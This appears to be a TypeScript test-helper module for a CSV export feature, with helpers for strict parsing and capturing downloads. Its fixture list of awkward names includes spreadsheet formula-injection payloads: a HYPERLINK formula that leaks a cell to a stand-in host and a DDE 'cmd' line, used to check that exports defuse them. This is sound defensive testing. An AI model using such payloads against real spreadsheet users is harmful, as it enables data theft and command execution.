import { parse } from 'csv-parse/sync';
import { vi } from 'vitest';
import { CSV_BOM } from '@rallypoint/shared';

/** Names a CSV must carry intact, and text a spreadsheet would run as a formula if it were written as is. */
export const HOSTILE_NAMES = [
  'Doe, Jane',
  'Alex "Ace" Doe',
  'Two\nLines',
  'Zoë Ångström',
  '李小龍',
  'Ђорђе',
  '=HYPERLINK("http://evil.test/?leak="&C2,"Click me")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)',
  '\tTabbed',
  '\rReturned',
] as const;

/** How a cell holding `value` reads back: as it was, behind an apostrophe when it would start a formula. */
export const defused = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

/** Rows of a CSV read by a strict RFC 4180 parser; throws when the text has no BOM or is not strictly valid. */
export function parseStrictCsv(text: string): string[][] {
  if (!text.startsWith(CSV_BOM)) throw new Error('the CSV does not start with a UTF-8 byte-order mark');
  return parse(text, { bom: true, relax_quotes: false, relax_column_count: false, record_delimiter: '\r\n' });
}

export interface SavedFile {
  name: string;
  blob: Blob;
}

/**
 * Catches the files the page saves through a link click (downloadTextFile), so a test reads the very bytes
 * the browser would write to disk. Call before the click; the array fills as files are saved.
 */
export function captureDownloads(): SavedFile[] {
  const saved: SavedFile[] = [];
  const blobs = new Map<string, Blob>();
  // jsdom has no object URLs and does not follow links.
  URL.createObjectURL ??= () => '';
  URL.revokeObjectURL ??= () => {};
  vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
    const url = `blob:test/${blobs.size}`;
    blobs.set(url, blob as Blob);
    return url;
  });
  vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => {});
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    saved.push({ name: this.download, blob: blobs.get(this.href)! });
  });
  return saved;
}

/** A saved CSV file's bytes, its text (BOM kept) and its rows as the strict parser reads them. */
export async function readCsvFile(file: SavedFile): Promise<{ bytes: Uint8Array; text: string; rows: string[][] }> {
  const bytes = new Uint8Array(await file.blob.arrayBuffer());
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  return { bytes, text, rows: parseStrictCsv(text) };
}
